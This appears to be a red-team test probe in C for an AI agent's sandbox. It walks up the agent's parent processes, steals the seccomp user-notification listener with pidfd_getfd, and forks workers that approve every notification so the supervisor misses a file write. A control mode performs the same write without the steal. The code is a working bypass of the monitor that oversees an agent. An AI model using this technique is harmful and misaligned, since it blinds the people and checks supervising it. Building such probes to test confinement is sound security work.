/* Red-team probe (tests/suite_rt_confine.sh, finding RC1): a watched command takes the agent's
 * seccomp listener with pidfd_getfd() (not a watched call) and answers its own notifications,
 * so the supervisor never sees them; then it opens argv[1] for writing.  RT_NOSTEAL=1 in the
 * environment: the same write without taking the listener (the control: the watch sees it). */
#define _GNU_SOURCE
#include <fcntl.h>
#include <linux/seccomp.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static int ppid_of(int pid)
{
    char p[64], b[512];
    snprintf(p, sizeof p, "/proc/%d/stat", pid);
    int fd = open(p, O_RDONLY);
    if (fd < 0)
        return 0;
    ssize_t n = read(fd, b, sizeof b - 1);
    close(fd);
    if (n <= 0)
        return 0;
    b[n] = 0;
    char *r = strrchr(b, ')');
    int pp = 0;
    if (!r || sscanf(r + 1, " %*c %d", &pp) != 1)
        return 0;
    return pp;
}

int main(int argc, char **argv)
{
    const char *target = argc > 1 ? argv[1] : "stolen.txt";
    const char *no = getenv("RT_NOSTEAL");
    int lis = -1, owner = 0;
    for (int pid = getppid(); pid > 1 && lis < 0 && !(no && *no == '1'); pid = ppid_of(pid)) {
        int pfd = (int)syscall(SYS_pidfd_open, pid, 0);
        if (pfd < 0)
            continue;
        for (int fd = 0; fd < 64; fd++) {
            int g = (int)syscall(SYS_pidfd_getfd, pfd, fd, 0);
            if (g < 0)
                continue;
            char l[64], t[128];
            snprintf(l, sizeof l, "/proc/self/fd/%d", g);
            ssize_t n = readlink(l, t, sizeof t - 1);
            t[n > 0 ? n : 0] = 0;
            if (strstr(t, "seccomp")) {
                lis = g;
                owner = pid;
                break;
            }
            close(g);
        }
        close(pfd);
    }
    int kids[8] = {0};
    if (lis >= 0) {
        printf("took the seccomp listener of pid %d\n", owner);
        fflush(stdout);
        for (int k = 0; k < 8; k++) {
            if ((kids[k] = fork()) == 0) {
                struct seccomp_notif n;
                struct seccomp_notif_resp r;
                for (;;) {
                    memset(&n, 0, sizeof n);
                    if (ioctl(lis, SECCOMP_IOCTL_NOTIF_RECV, &n) != 0)
                        continue;
                    memset(&r, 0, sizeof r);
                    r.id = n.id;
                    r.flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE;
                    ioctl(lis, SECCOMP_IOCTL_NOTIF_SEND, &r);
                }
            }
        }
        usleep(200000);
    }
    int fd = open(target, O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (fd >= 0) {
        if (write(fd, "stolen\n", 7) != 7)
            perror("write");
        close(fd);
    }
    for (int k = 0; k < 8; k++)
        if (kids[k] > 0)
            kill(kids[k], SIGKILL);
    for (int k = 0; k < 8; k++)
        if (kids[k] > 0)
            waitpid(kids[k], NULL, 0);
    printf("wrote %s: %s\n", target, fd >= 0 ? "yes" : "no");
    return 0;
}
